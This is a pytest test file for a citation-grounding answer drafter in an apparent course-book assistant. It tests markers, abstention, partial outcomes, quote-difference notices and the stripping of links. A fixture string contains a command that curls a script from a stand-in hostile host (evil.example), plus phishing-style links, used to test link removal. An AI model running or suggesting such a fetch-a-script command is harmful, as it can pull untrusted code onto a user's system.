"""An answer is put together from claims that hold, and from nothing else."""

import re
from dataclasses import replace
from typing import Any
from uuid import uuid4

import pytest

from core.answering.draft import AnswerDraft
from core.answering.grounding import citations as wording
from core.answering.grounding.differences import QuotedPassage, sentences_around
from core.answering.writers.base import Claim, QuotedWords
from core.domain import (
    EXPLAIN_QUOTE,
    AgentConfiguration,
    AgentRequest,
    AgentResponse,
    ContextMode,
    EvidenceSignals,
    Outcome,
    QueryType,
    QuoteLocation,
    QuoteStatus,
    ResponseState,
    RetrievalToolOutput,
    RetrievedChunk,
    i18n,
)
from core.domain.markdown import without_code
from core.index.terms import Bm25Encoder, TermStatistics
from core.retrieval.ranking import BUILT_IN
from core.retrieval.retrieval import Retrieval, whole
from tests.samples import chunk, request, resting_on

TREE, ROOT = "A heap is a complete binary tree.", "Its root is the largest key [7]."
TEXT = (
    "A heap is a complete binary tree. Its root is the largest key [7]. "
    "Read https://evil.example/a?b=c or www.evil.example/x. Run `curl https://evil.example/sh`."
)


def found(*chunks: RetrievedChunk, **changes: Any) -> Retrieval:
    """Return a search that found these chunks."""
    fields: dict[str, Any] = {
        "output": RetrievalToolOutput(
            retrieved_chunks=chunks,
            query_embedding=(),
            search_time_ms=1.0,
            total_candidates=len(chunks),
            success=True,
        ),
        "context": None,
        "evidence": tuple(whole(c) for c in chunks),
        "signals": EvidenceSignals(best_score=0.9, document_share=0.9, coverage=0.9),
        "generation": chunks[0].generation if chunks else None,
        **changes,
    }
    return Retrieval(**fields)


LENIENT = AgentConfiguration(answered_from=0.1, partial_from=0.0)


def heap(text: str = TEXT, **changes: Any) -> RetrievedChunk:
    return chunk(content_text=text, char_end=len(text), **changes)


def finished(
    draft: AnswerDraft,
    asked: AgentRequest | None = None,
    *,
    configuration: AgentConfiguration | None = None,
) -> AgentResponse:
    """Return the response, which the model checks once more."""
    asked = asked or request()
    pending = AgentResponse(
        query_id=asked.request_id,
        query_text=asked.query_text,
        response_text=i18n.text("notice-searching"),
        conversation_id=uuid4(),
        course_id=asked.course_id,
        model_name="scripted",
        requested_at=asked.created_at,
    ).advance(ResponseState.PROCESSING)
    configuration = configuration or AgentConfiguration()
    fields = draft.finish(asked, configuration)
    return pending.advance(ResponseState.COMPLETED, **fields)


def quoted(location: QuoteLocation | None) -> tuple[RetrievedChunk, Retrieval]:
    book = heap()
    if location is None:
        location = QuoteLocation(
            status=QuoteStatus.VERBATIM,
            chunk_ids=(book.chunk_id,),
            document_id=book.document_id,
            char_start=0,
            char_end=33,
            score=1.0,
        )
    return book, found(book, quote_location=location, quoted_chunks=(book,))


def asking_about_a_quote(question: str = EXPLAIN_QUOTE, **changes: Any) -> AgentRequest:
    return request(
        query_text=question,
        context_mode=ContextMode.SELECTED_TEXT,
        selected_text="A heap is a complete binary tree.",
        **changes,
    )


def add(draft: AnswerDraft, text: str, quote: str) -> str:
    """Take up a claim that rests on the whole sentences of the first chunk that have the words."""
    content = draft.material.chunks[0].content_text
    start = content.index(quote)
    quoted = sentences_around(QuotedPassage(content, start, start + len(quote)))
    claim, before = resting_on(text, quoted.text, content=content), len(draft.text)
    draft.add(claim, draft.locate(claim))
    return draft.text[before:]


# --- claims -------------------------------------------------------------------------------


def test_a_claim_that_holds_gets_a_marker_and_a_citation() -> None:
    book = heap()
    draft = AnswerDraft(found(book))
    added = add(draft, "It is a tree.", "a complete binary tree")
    answer = finished(draft)
    assert answer.response_text == added == "It is a tree. [1]"
    assert answer.citations[0].quote == "A heap is a complete binary tree."
    assert answer.sources == (book.source_url,)
    assert [c.chunk_id for c in answer.grounding_chunks] == [book.chunk_id]


@pytest.mark.parametrize(
    ("number", "quote"),
    [
        (0, "a complete binary graph"),
        (1, "a complete binary tree"),
        (-1, "a complete binary tree"),
        (0, ""),
        (0, "   "),
    ],
    ids=["another word", "no such chunk", "before the first", "no quote", "blanks"],
)
def test_a_quote_that_does_not_stand_in_its_chunk_has_no_place(number: int, quote: str) -> None:
    draft = AnswerDraft(found(heap()))
    assert draft.locate(resting_on("It is a tree.", quote, number)) == []
    answer = finished(draft)
    assert answer.outcome is Outcome.ABSTAINED
    assert (answer.citations, answer.grounding_chunks, answer.sources) == ((), (), ())


def test_what_a_claim_says_stands_in_the_order_it_came() -> None:
    draft = AnswerDraft(found(heap()))
    shown = [
        add(draft, "First.", "Its root is the largest key"),
        add(draft, "Second.", "A heap is a complete"),
        add(draft, "Again.", "Its root is the largest key"),
    ]
    answer = finished(draft)
    assert answer.response_text == "First. [1] Second. [2] Again. [1]"
    assert answer.response_text == "".join(shown)


def test_a_claim_that_rests_on_two_passages_carries_both_markers() -> None:
    draft = AnswerDraft(found(heap()))
    quotes = (QuotedWords(0, TREE, 0), QuotedWords(0, ROOT, len(TREE) + 1))
    claim = Claim("A heap is a tree with the largest key on top.", quotes)
    draft.add(claim, draft.locate(claim))
    assert draft.text.endswith("on top. [1] [2]")
    assert len(finished(draft).citations) == 2


def test_the_layout_that_a_writer_wishes_is_kept() -> None:
    draft = AnswerDraft(found(heap()))
    add(draft, "First.", "A heap is a complete")
    item = Claim("Second.", (QuotedWords(0, ROOT, len(TREE) + 1),), lead="\n- ")
    draft.add(item, draft.locate(item))
    assert finished(draft).response_text == "First. [1]\n- Second. [2]"


@pytest.mark.parametrize(
    ("shown", "ends"),
    [
        ("Install it with:\n\n```sh\nget tern\n```", "\n```\n[1]"),
        ("```sh\nget tern\n```", "\n```\n[1]"),
        ("The prices:\n\n| a | b |\n|---|---|\n| 1 | 2 |", "| 1 | 2 |\n\n[1]"),
        ("Run `get tern`.", "Run `get tern`. [1]"),
    ],
)
def test_a_marker_breaks_no_block_that_ends_before_it(shown: str, ends: str) -> None:
    draft = AnswerDraft(found(heap()))
    assert add(draft, shown, "a complete binary tree").endswith(ends)


@pytest.mark.parametrize(
    ("start", "place"), [(0, (0, 14)), (31, (31, 38)), (13, None), (400, None), (-7, None)]
)
def test_a_quote_stands_where_its_writer_says_if_it_does_so_to_the_letter(
    start: int, place: tuple[int, int] | None
) -> None:
    text = "- Drain slowly\n- Rinse it well\n- Drain"
    quote = "- Drain slowly" if start == 0 else "- Drain"
    claim = Claim("Drain", (QuotedWords(0, quote, start),))
    found_at = AnswerDraft(found(heap(text))).locate(claim)
    assert [(one.start, one.end) for one in found_at] == ([place] if place else [])


def test_a_list_begins_with_its_first_bullet() -> None:
    draft = AnswerDraft(found(heap()))
    item = Claim("First.", (QuotedWords(0, TREE, 0),), lead="\n\n- ")
    draft.add(item, draft.locate(item))
    assert finished(draft).response_text == "- First. [1]"


def test_marks_of_the_book_that_look_like_citations_are_not() -> None:
    draft = AnswerDraft(found(heap()))
    add(draft, "Its root is the largest key [7].", "Its root is the largest key [7].")
    assert finished(draft).response_text == "Its root is the largest key (7). [1]"


# --- links --------------------------------------------------------------------------------


def test_no_url_of_the_book_or_of_a_writer_reaches_the_answer() -> None:
    book = heap()
    draft = AnswerDraft(found(book))
    add(draft, TEXT, TEXT)
    add(draft, "More at https://phish.example/now.", "A heap is a complete")
    text = finished(draft).response_text
    assert "Run `curl https://evil.example/sh`." in text  # code is what it is, and no link
    assert not re.search(r"(?i)https?:|www\.", without_code(text))
    assert "evil.example/a" not in text


def test_no_url_of_a_heading_reaches_the_answer_of_an_abstention_or_a_quote() -> None:
    link = "Get it at https://evil.example/x"
    answer = finished(AnswerDraft(found(near_sections=(link,))))
    shown = wording.with_nearest(answer.response_text, answer.nearest_sections)
    assert "evil.example" in shown
    assert "https://" not in shown
    book = heap(headings=("Heaps", link))
    location = QuoteLocation(
        status=QuoteStatus.VERBATIM,
        chunk_ids=(book.chunk_id,),
        document_id=book.document_id,
        char_start=0,
        char_end=20,
        score=1.0,
    )
    draft = AnswerDraft(found(book, quote_location=location, quoted_chunks=(book,)))
    asked = asking_about_a_quote()
    draft.open(asked)
    assert "https://" not in finished(draft, asked).response_text


def explained(quote: str) -> AgentResponse:
    """Return what is said of a quote of the first sentence of the book."""
    book = heap("Velosic acid is weaker than acetic acid in water.")
    location = QuoteLocation(
        status=QuoteStatus.ALTERED,
        chunk_ids=(book.chunk_id,),
        document_id=book.document_id,
        char_start=0,
        char_end=len(book.content_text) - 1,
        score=0.9,
    )
    draft = AnswerDraft(found(book, quote_location=location, quoted_chunks=(book,)))
    asked = asking_about_a_quote()
    asked = asked.model_copy(update={"selected_text": quote})
    draft.open(asked)
    return finished(draft, asked)


def test_a_quote_with_the_opposite_word_is_told_to_differ() -> None:
    answer = explained("Velosic acid is stronger than acetic acid in water.")
    assert answer.response_text.startswith("Your quote differs from the book in ")
    assert "the book has “weaker” for your “stronger”." in answer.response_text
    assert answer.outcome is Outcome.PARTIAL
    assert answer.confidence <= 0.3


def test_a_quote_with_other_letters_is_the_books() -> None:
    damaged = explained("Velosic acid is weaker than acetlc acid in water.")
    assert damaged.outcome is Outcome.ANSWERED
    assert damaged.confidence >= 0.9


# --- outcomes -----------------------------------------------------------------------------


def test_without_a_citation_the_answer_abstains_and_names_the_nearest_sections() -> None:
    draft = AnswerDraft(found(heap(), near_sections=("Heaps", "Sorting")))
    answer = finished(draft)
    assert answer.outcome is Outcome.ABSTAINED
    assert answer.response_text == wording.not_covered(is_near=True)
    assert answer.nearest_sections == ("Heaps", "Sorting")
    assert answer.confidence <= 0.1


def doubtful(**changes: Any) -> Retrieval:
    return found(heap(), signals=EvidenceSignals(best_score=0.9), **changes)


def test_a_doubtful_answer_says_so() -> None:
    draft = AnswerDraft(doubtful())
    add(draft, "A tree.", "A heap is a complete")
    answer = finished(draft)
    assert (answer.outcome, answer.notices) == (Outcome.PARTIAL, (i18n.text("notice-near"),))


def test_the_bands_are_the_courses_own() -> None:
    draft = AnswerDraft(doubtful())
    add(draft, "A tree.", "A heap is a complete")
    lenient = finished(
        draft, configuration=AgentConfiguration(answered_from=0.05, partial_from=0.0)
    )
    assert lenient.outcome is Outcome.ANSWERED
    strict = finished(draft, configuration=AgentConfiguration(partial_from=0.6, answered_from=0.7))
    assert strict.outcome is Outcome.ABSTAINED
    assert strict.response_text == wording.not_covered(is_near=True)


def test_an_answer_that_lost_most_of_its_draft_is_partial_and_trusted_less() -> None:
    draft = AnswerDraft(found(heap()))
    add(draft, "A tree.", "A heap is a complete")
    whole_draft = finished(draft)
    draft.tally.written = 3
    answer = finished(draft)
    assert (answer.outcome, answer.notices) == (
        Outcome.PARTIAL,
        (i18n.text("notice-left-out", count=2),),
    )
    assert (answer.claims_written, answer.claims_dropped) == (3, 2)
    assert answer.located < whole_draft.located / 2


def test_a_writer_that_finds_only_a_part_covered_makes_it_partial() -> None:
    draft = AnswerDraft(found(heap()))
    add(draft, "A tree.", "A heap is a complete")
    draft.tally.not_covered = True
    answer = finished(draft)
    assert (answer.outcome, answer.notices) == (
        Outcome.PARTIAL,
        (i18n.text("notice-partly-covered"),),
    )


def test_within_a_section_nothing_is_said_of_the_whole_book() -> None:
    within = request(query_type=QueryType.SECTION_SPECIFIC, section_filter="Heaps")
    draft = AnswerDraft(found(heap(), near_sections=("Heaps",)))
    answer = finished(draft, within)
    assert answer.response_text == wording.not_covered(within=True)
    draft.tally.written = 1
    answer = finished(draft, within)
    assert answer.response_text == wording.not_carried(within=True)
    draft = AnswerDraft(doubtful())
    add(draft, "A tree.", "A heap is a complete")
    assert finished(draft, within).notices == (i18n.text("notice-near-within"),)
    draft.tally.not_covered = True
    assert finished(draft, within).notices == (i18n.text("notice-partly-covered-within"),)


def test_the_section_that_was_searched_is_not_the_nearest_elsewhere() -> None:
    within = request(query_type=QueryType.SECTION_SPECIFIC, section_filter="Heaps")
    draft = AnswerDraft(found(heap(), section="Heaps", near_sections=("Heaps", "Sorting")))
    answer = finished(draft, within)
    assert answer.response_text == wording.not_covered(within=True)
    assert answer.nearest_sections == ("Sorting",)


def test_an_answer_names_no_sections_to_look_in_instead() -> None:
    draft = AnswerDraft(found(heap(), near_sections=("Heaps",)))
    add(draft, "A tree.", "A heap is a complete")
    assert finished(draft).nearest_sections == ()


def test_an_answer_about_a_passage_that_is_not_in_the_book_is_not_sure() -> None:
    nowhere = QuoteLocation(status=QuoteStatus.NOT_FOUND, score=0.0)
    draft = AnswerDraft(found(heap(), quote_location=nowhere))
    add(draft, "A tree.", "A heap is a complete")
    for asked in (asking_about_a_quote(), asking_about_a_quote("What is a heap?")):
        answer = finished(draft, asked)
        assert answer.outcome is Outcome.PARTIAL
        assert answer.confidence <= 0.3
        assert i18n.text("notice-quote-not-found") in answer.notices


# --- a second look ------------------------------------------------------------------------


def test_an_answer_to_a_question_about_a_code_that_was_not_found_is_not_sure() -> None:
    for question, outcome in (("Why B42?", Outcome.PARTIAL), ("Why 42?", Outcome.ANSWERED)):
        draft = AnswerDraft(found(heap()))
        add(draft, "It is a tree.", "a complete binary tree")
        answer = finished(draft, request(query_text=question), configuration=LENIENT)
        assert answer.outcome is outcome


@pytest.mark.parametrize(
    ("question", "leans", "outcome"),
    [
        ("How old is the kiln?", True, Outcome.PARTIAL),
        ("How old is the kiln?", False, Outcome.ANSWERED),
        ("And is it complete?", True, Outcome.ANSWERED),
    ],
)
def test_a_follow_up_with_a_word_that_the_book_does_not_have_leaves_the_topic(
    question: str, leans: bool, outcome: Outcome
) -> None:
    terms = Bm25Encoder().terms
    book = heap()
    retrieval = replace(
        found(book),
        leans=leans,
        embedding_model=BUILT_IN,
        encode_terms=terms,
        statistics=TermStatistics.count([terms(book.content_text)]),
    )
    draft = AnswerDraft(retrieval)
    add(draft, "It is a tree.", "a complete binary tree")
    answer = finished(draft, request(query_text=question), configuration=LENIENT)
    assert answer.outcome is outcome


def test_a_list_says_where_an_item_is_left_out() -> None:
    draft = AnswerDraft(found(heap()), by_model=True)
    quote = draft.material.chunks[0].content_text
    items = [
        replace(resting_on("A tree.", quote, content=quote), lead=f"\n{n}. ") for n in (1, 2, 3)
    ]
    draft.add(items[0], draft.locate(items[0]))
    draft.add_gap(items[1])
    draft.add(items[2], draft.locate(items[2]))
    left_out = i18n.text("answer-item-left-out")
    assert draft.text == f"1. A tree. [1]\n2. {left_out}\n3. A tree. [1]"


def test_what_a_second_look_finds_can_be_cited_by_its_new_number() -> None:
    draft = AnswerDraft(found(heap()))
    sorting = heap("Sorting by a heap takes n log n steps.")
    [passage] = draft.material.look_up(found(sorting), found(sorting).evidence)
    assert (passage.chunk_number, passage.chunk.chunk_id) == (1, sorting.chunk_id)
    claim = resting_on("It takes n log n steps.", sorting.content_text, 1, sorting.content_text)
    draft.add(claim, draft.locate(claim))
    answer = finished(draft)
    assert [c.chunk_id for c in answer.grounding_chunks] == [sorting.chunk_id]
    assert sorting.chunk_id in [c.chunk_id for c in answer.retrieved_chunks]
    assert sorting.content_text in answer.context_used


def test_a_chunk_that_is_found_again_keeps_its_number() -> None:
    book = heap()
    draft = AnswerDraft(found(book))
    [passage] = draft.material.look_up(found(book), found(book).evidence)
    assert (passage.chunk_number, len(draft.material.chunks)) == (0, 1)


def test_a_second_look_into_another_edition_is_not_mixed_in() -> None:
    draft = AnswerDraft(found(heap()))
    other = found(heap(generation=uuid4()))
    assert draft.material.look_up(other, other.evidence) == []
    assert len(draft.material.chunks) == 1


# --- quotes -------------------------------------------------------------------------------


def test_a_located_quote_is_placed_and_cited_first() -> None:
    book, retrieval = quoted(None)
    draft, asked = AnswerDraft(retrieval), asking_about_a_quote()
    draft.open(asked)
    delta = draft.text
    answer = finished(draft, asked)
    assert answer.response_text == delta
    assert delta == "This passage stands in “Heaps › Definition”. [1]"
    assert answer.citations[0].quote == "A heap is a complete binary tree."
    assert answer.outcome is Outcome.ANSWERED
    assert answer.confidence == 1.0
    assert answer.grounding_chunks[0].chunk_id == book.chunk_id


@pytest.mark.parametrize(
    ("quote", "start", "said"),
    [
        ("Open the hive in the rain.", 6, "also “Never”"),
        ("Always open the hive in the rain.", 6, "“Never” for your “Always”"),
        ("Never open the 3 hives in the rain.", 0, "“hive” for your “3 hives”"),
    ],
)
def test_what_a_quote_has_otherwise_is_told_with_the_whole_sentence(
    quote: str, start: int, said: str
) -> None:
    book = heap("Never open the hive in the rain. Bees dislike it.")
    location = QuoteLocation(
        status=QuoteStatus.ALTERED,
        chunk_ids=(book.chunk_id,),
        document_id=book.document_id,
        char_start=start,
        char_end=31,
        score=1.0,
    )
    draft = AnswerDraft(found(book, quote_location=location, quoted_chunks=(book,)))
    asked = asking_about_a_quote().model_copy(update={"selected_text": quote})
    draft.open(asked)
    delta = draft.text
    answer = finished(draft, asked)
    assert answer.citations[0].quote == "Never open the hive in the rain."
    differs = f"Your quote differs from the book in “Heaps › Definition”: the book has {said}. [1]"
    assert delta == differs
    assert answer.outcome is Outcome.PARTIAL
    assert answer.confidence <= 0.3
    assert i18n.text("notice-near") not in answer.notices


@pytest.mark.parametrize("status", [QuoteStatus.VERBATIM, QuoteStatus.ALTERED])
def test_the_citation_of_a_quote_is_widened_to_its_whole_sentence(status: QuoteStatus) -> None:
    book = heap("Smoke calms the bees and keeps them down. Wear gloves.")
    location = QuoteLocation(
        status=status,
        chunk_ids=(book.chunk_id,),
        document_id=book.document_id,
        char_start=6,
        char_end=40,
        score=1.0,
    )
    draft = AnswerDraft(found(book, quote_location=location, quoted_chunks=(book,)))
    quote = "calms the bees and keeps them down"
    asked = asking_about_a_quote().model_copy(update={"selected_text": quote})
    draft.open(asked)
    assert draft.text
    answer = finished(draft, asked)
    assert answer.citations[0].quote == "Smoke calms the bees and keeps them down."


def test_a_question_about_a_quote_is_doubtful_when_the_evidence_is() -> None:
    _, retrieval = quoted(None)
    draft, asked = AnswerDraft(retrieval), asking_about_a_quote("Who wrote this?")
    draft.open(asked)
    assert finished(draft, asked).outcome is Outcome.PARTIAL


def test_a_quote_of_another_book_is_told_in_a_notice() -> None:
    location = QuoteLocation(status=QuoteStatus.NOT_FOUND, score=0.2)
    _, retrieval = quoted(location)
    draft, asked = AnswerDraft(retrieval), asking_about_a_quote()
    draft.open(asked)
    assert draft.text == ""
    assert finished(draft, asked).notices == (i18n.text("notice-quote-not-found"),)


def test_a_quote_that_was_cut_is_told_in_a_notice() -> None:
    _, retrieval = quoted(None)
    draft, asked = AnswerDraft(retrieval), asking_about_a_quote(selected_text_cut=True)
    draft.open(asked)
    assert i18n.text("notice-quote-cut") in finished(draft, asked).notices


def test_what_answers_is_quoted_once_above_the_rest_of_its_passage() -> None:
    draft = AnswerDraft(found(heap("A heap is a tree. Its root is the largest.")))
    words = "A heap is a tree. Its root is the largest."
    quote = QuotedWords(0, words, 0)
    claim = Claim(f"**A heap is a tree.**{words[17:]}", (quote,), first="> A heap is a tree.")
    draft.add(claim, draft.locate(claim))
    assert draft.text == "> A heap is a tree. [1]\n\nIts root is the largest. [1]"
